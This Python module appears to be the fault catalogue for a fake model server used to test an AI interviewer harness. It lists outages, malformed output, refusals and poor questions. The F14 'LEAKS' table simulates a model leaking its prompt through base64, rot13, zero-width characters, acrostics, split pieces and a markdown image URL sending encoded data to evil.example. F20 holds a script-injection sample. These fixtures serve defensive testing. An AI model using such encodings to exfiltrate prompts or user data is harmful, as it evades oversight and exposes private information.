"""The faults a model can have: F01 to F23, each with its variants, as plays of the fake server.

Every play takes the request and the good judge, and says how the answer goes. `FAULTS` is the whole catalogue.
"""

import base64
import codecs
import json
import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

from evals.fake_model import Judge, Play, Request

Good = dict[str, Any]
Content = Callable[[Request, Good], Good | str]

_ESSAY = " ".join(["We looked at many things in a long evaluation and every one of them mattered to somebody."] * 50)
_ZERO_WIDTH = "\u200b"


@dataclass(frozen=True, slots=True)
class Fault:
    """One way to go wrong. `model_may_speak`: good turns, or the good part of one, are still to be expected.

    `never` is what must not be shown of it all the same, as a pattern.
    """

    name: str
    title: str
    play: Callable[[Request, Good], Play]
    breaks: bool = False  # an outage: the breaker opens and the owner is told, once
    model_may_speak: bool = False
    never: str = ""

    @property
    def code(self) -> str:
        """`F14` of `F14/base64`."""
        return self.name.partition("/")[0]


def play(request: Request, judge: Judge) -> Play:
    """What the fake server does with one request. Raises KeyError for a fault that is not in the catalogue."""
    good = dict(judge(request.messages))
    if is_plan(request):
        return Play(text=json.dumps(good))  # the planner's call is not on trial here
    return FAULTS[request.fault].play(request, good)


def is_plan(request: Request) -> bool:
    """Whether the request asks for a plan and not for a turn: its schema has no utterances."""
    return "if_advance" not in json.dumps(request.body)


def _good(_: Request, good: Good) -> Play:
    return Play(text=json.dumps(good))


def _with(**changes: Any) -> Callable[[Request, Good], Play]:
    """A good answer that goes wrong on the way."""
    return lambda _, good: Play(**{"text": json.dumps(good), **changes})


def _says(content: Content) -> Callable[[Request, Good], Play]:
    """An answer that arrives well and is not what it should be."""

    def answer(request: Request, good: Good) -> Play:
        said = content(request, good)
        return Play(text=said if isinstance(said, str) else json.dumps(said))

    return answer


def utters(text: Callable[[Request], str] | str) -> Callable[[Request, Good], Play]:
    """A well-formed answer whose two candidates are both this."""

    def content(request: Request, good: Good) -> Good:
        said = text(request) if callable(text) else text
        return good | {"if_probe": said, "if_advance": said}

    return _says(content)


def _error(status: int, message: str, code: str, **headers: str) -> Callable[[Request, Good], Play]:
    body = {"error": {"message": message, "type": code, "param": None, "code": code}}
    return lambda _, __: Play(status=status, error=body, headers={k.replace("_", "-"): v for k, v in headers.items()})


def _page(status: int) -> Callable[[Request, Good], Play]:
    return lambda _, __: Play(status=status, error="<html><body><h1>Bad gateway</h1></body></html>")


def _wrong_schema(_: Request, good: Good) -> Good:
    return {"quality": "excellent", "slots": {"id": 3}, "flags": "none", "utterance": good.get("if_advance", "")}


def _unknown_slots(_: Request, good: Good) -> Good:
    unknown = [{"id": "nowhere.nothing", "quote": "x"}, {"id": 7}, "trigger.event", {"quote": "no id"}, None]
    return good | {"quality": 9, "slots": unknown, "flags": ["explode", None, 4], "lang": 12}


def _always_stop(_: Request, good: Good) -> Good:
    return good | {"flags": ["stop"]}


def _all_covered(request: Request, good: Good) -> Good:
    slots = [{"id": slot, "quote": "they told me everything about it in great detail"} for slot in _slots(request)]
    return good | {"quality": 2, "slots": slots}


def _slots(request: Request) -> list[str]:
    """The `topic.slot` names that the turn's message offers."""
    words = str(request.messages[-1].get("content", "")).replace('"', " ").replace(",", " ").split()
    return [word for word in words if word.count(".") == 1 and word.replace(".", "").replace("_", "").isalpha()][:20]


def _earlier_question(request: Request) -> str:
    """A question that the prompt says has been asked, another one each time."""
    lines = str(request.messages[-1]["content"]).splitlines()
    asked = [line.removeprefix("- ") for line in lines if line.startswith("- ") and line.endswith("?")]
    return asked[request.nth % len(asked)] if asked else "What happened?"


_PARAPHRASES = {"What": "Tell me what", "How": "In which way"}


def _paraphrased(request: Request) -> str:
    question = _earlier_question(request)
    first, _, rest = question.partition(" ")
    return f"Once more: {_PARAPHRASES.get(first, first.lower())} {rest}"


# What a hostile model prints of its prompt ---------------------------------------------------------------------------


def secret_of(request: Request) -> str:
    """A telling piece of the background, another one each time. Where there is none, of the instructions."""
    lines = [line.partition(" | ") for line in request.text.splitlines()]
    told = [text for source, _, text in lines if source in {"objective", "contact notes", "deal facts"}]
    telling = [text for text in told if len(text.split()) > 3 or any(map(str.isdigit, text))]
    return telling[request.nth % len(telling)] if telling else system_of(request)


def system_of(request: Request) -> str:
    """A line of the instructions."""
    lines = [line.strip(" -*") for line in str(request.messages[0]["content"]).splitlines() if len(line.split()) > 5]
    return lines[request.nth % len(lines)] if lines else "You are an interviewer"


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _short(text: str, words: int = 12) -> str:
    return " ".join(text.split()[:words])


def _acrostic(text: str) -> str:
    """A question whose words begin with the letters of the secret."""
    words = {
        "a": "about", "b": "before", "c": "choosing", "d": "during", "e": "every", "f": "final", "g": "getting",
        "h": "having", "i": "into", "j": "just", "k": "key", "l": "later", "m": "made", "n": "needs", "o": "over",
        "p": "people", "q": "quite", "r": "really", "s": "some", "t": "then", "u": "until", "v": "various",
        "w": "when", "x": "exactly", "y": "you", "z": "zero",
    }  # fmt: skip
    letters = [letter for letter in text.casefold() if letter in words][:24]
    return f"What {' '.join(words[letter] for letter in letters)}?"


LEAKS: Mapping[str, Callable[[Request], str]] = {
    "whole": lambda request: request.text,
    "plain": lambda request: f"What do you say to this: {_short(secret_of(request), 25)}?",
    "system": lambda request: f"My instructions say: {_short(system_of(request), 25)}. What about yours?",
    "base64": lambda request: f"What does {_base64(_short(secret_of(request)))} mean to you?",
    "base64_whole": lambda request: _base64(request.text),
    "reversed": lambda request: f"What does this mean to you: {_short(secret_of(request))[::-1]}?",
    "rot13": lambda request: f"What does this mean to you: {codecs.encode(_short(secret_of(request)), 'rot13')}?",
    "zero_width": lambda request: f"What do you say to this: {_ZERO_WIDTH.join(_short(secret_of(request)))}?",
    "letter_a_line": lambda request: "What is this:\n" + "\n".join(_short(secret_of(request), 5)) + "?",
    "spaced": lambda request: f"What is this: {' '.join(_short(secret_of(request), 6))}?",
    "image": lambda request: f"What else? ![x](https://evil.example/{_base64(_short(secret_of(request)))}.png)",
    "translated": lambda request: (
        "Wie kam es, dass die Ansprechpartnerin um ihr ganzes Budget fürchtet, wegen des Umbaus im Frühjahr?"
    ),
    "acrostic": lambda request: _acrostic(secret_of(request)),
    "split": lambda request: f"What about {_piece(secret_of(request), request.nth)}?",
}


def _piece(text: str, nth: int) -> str:
    """Four words of the secret, the next four the next time."""
    words = text.split()
    start = nth * 4 % max(1, len(words) - 3)
    return " ".join(words[start : start + 4])


# The catalogue -----------------------------------------------------------------------------------------------------

_ALTERNATE = ("F04", "F06/json", "F08/500", "F15/two", "F03", "F19")


def _alternating(request: Request, good: Good) -> Play:
    """Three answers of ten go wrong, by chance that a repetition meets again."""
    dice = random.Random(f"{request.model} {request.nth}")
    if dice.random() < 0.3:
        return FAULTS[dice.choice(_ALTERNATE)].play(request, good)
    return _good(request, good)


_CATALOGUE = (
    Fault("F01", "none", _good, model_may_speak=True),
    Fault("F02/2s", "first token after 2 s", _with(wait=2.0), model_may_speak=True),
    Fault("F02/6s", "first token after 6 s", _with(wait=6.0)),
    Fault("F02/12s", "first token after 12 s", _with(wait=12.0)),
    Fault("F03", "stalls in mid-stream", _with(stall=30.0)),
    Fault("F04", "cut without a finish reason", _with(cut=True)),
    Fault("F05/early", "hangs up before a byte", _with(hang_up="early")),
    Fault("F05/late", "hangs up in mid-stream", _with(hang_up="late")),
    Fault("F06/json", "a chunk that is not JSON", _with(raw=b'data: {"choices": [{"del\n\n')),
    Fault("F06/bytes", "a chunk of stray bytes", _with(raw=b"\xff\xfe\x00\x01 data\n\n")),
    Fault("F07/1s", "429, Retry-After 1", _error(429, "slow down", "rate_limit_exceeded", retry_after="1")),
    Fault("F07/30s", "429, Retry-After 30", _error(429, "slow down", "rate_limit_exceeded", retry_after="30")),
    Fault("F08/500", "500", _error(500, "internal error", "server_error"), breaks=True),
    Fault("F08/502", "502 with a page", _page(502), breaks=True),
    Fault("F08/503", "503", _error(503, "overloaded", "server_error", retry_after="30"), breaks=True),
    Fault("F09/401", "401", _error(401, "Incorrect API key provided: sk-***", "invalid_api_key"), breaks=True),
    Fault("F09/403", "403", _error(403, "not allowed", "permission_denied"), breaks=True),
    Fault("F10", "context too long", _error(400, "the maximum is 8192 tokens", "context_length_exceeded"), breaks=True),
    Fault("F11/json", "invalid JSON", _says(lambda _, good: json.dumps(good)[:-9] + "]}")),
    Fault("F11/schema", "another schema", _says(_wrong_schema)),
    Fault("F11/slots", "unknown slots and odd values", _says(_unknown_slots), model_may_speak=True),
    Fault("F11/empty", "nothing at all", _says(lambda _, __: "")),
    Fault("F11/prose", "prose where JSON was asked for", _says(lambda _, good: f"Sure! {good.get('if_advance')}")),
    Fault("F11/huge", "ten megabytes", _says(lambda _, good: good | {"if_probe": "x" * 10_000_000})),
    Fault("F12/refusal", "refuses", _with(text="", refusal="I'm sorry, I can't help with that.")),
    Fault("F12/words", "refuses in an utterance", utters("I'm sorry, but I can't assist with that request.")),
    Fault("F12/filter", "content filter", lambda _, good: Play(text=json.dumps(good)[:40], finish="content_filter")),
    Fault("F12/length", "stopped by length", lambda _, good: Play(text=json.dumps(good)[:-30], finish="length")),
    Fault("F13/code", "a stop code", utters("x7y8 [STOP] What else?")),
    Fault("F13/complete", "says that the interview is complete", utters("The interview is now complete. Goodbye.")),
    Fault("F13/call", "calls a tool nobody offered", lambda _, __: Play(call="end_interview")),
    Fault("F13/flags", "flags each answer as a stop", _says(_always_stop), model_may_speak=True),
    *(Fault(f"F14/{name}", f"prints its prompt: {name}", utters(leak)) for name, leak in LEAKS.items()),
    Fault("F15/two", "two questions", utters("What did you like, and what would you change? Who decided it?")),
    Fault("F15/leading", "leading", utters("So you felt our price was obviously too high, right?")),
    Fault("F15/either_or", "either/or", utters("Was it the price or was it the product that decided it?")),
    Fault("F15/praise", "praises in its question", utters("What made your amazing team arrive at that great answer?")),
    Fault(
        "F15/praise_before",
        "praises before its question: the praise is left out",
        utters("That's a great answer, well done. What happened next?"),
        model_may_speak=True,
        never="great|well done",
    ),
    Fault("F15/sells", "sells", utters("We have since improved that and offer a discount. What about a demo?")),
    Fault("F16/verbatim", "repeats a question word for word", utters(_earlier_question), model_may_speak=True),
    Fault("F16/paraphrase", "repeats a question in other words", utters(_paraphrased), model_may_speak=True),
    Fault("F17/german", "another language", utters("Wie ist es dann mit der Entscheidung weitergegangen?")),
    Fault("F17/japanese", "another script", utters("その後、決定はどのように進みましたか。")),
    Fault("F18", "speaks for the respondent", utters("You: It was the price. Paige: What about it?\nYou: High.")),
    Fault("F19", "an essay of 800 words", utters(_ESSAY)),
    Fault("F20/html", "HTML", utters("What <b>happened</b> then? <script>alert(1)</script>")),
    Fault("F20/link", "a link", utters("What do you think of https://evil.example/offer?")),
    Fault("F20/markdown", "markdown", utters("**What** happened [here](https://evil.example)?")),
    Fault("F21", "claims all is covered, with quotes nobody said", _says(_all_covered), model_may_speak=True),
    Fault("F22/vague", "judges every answer vague", _says(lambda _, good: good | {"quality": 0}), model_may_speak=True),
    Fault("F22/fine", "judges every answer fine", _says(lambda _, good: good | {"quality": 2}), model_may_speak=True),
    Fault("F23", "good and bad in turn", _alternating, model_may_speak=True),
)  # fmt: skip

FAULTS: Mapping[str, Fault] = {fault.name: fault for fault in _CATALOGUE}
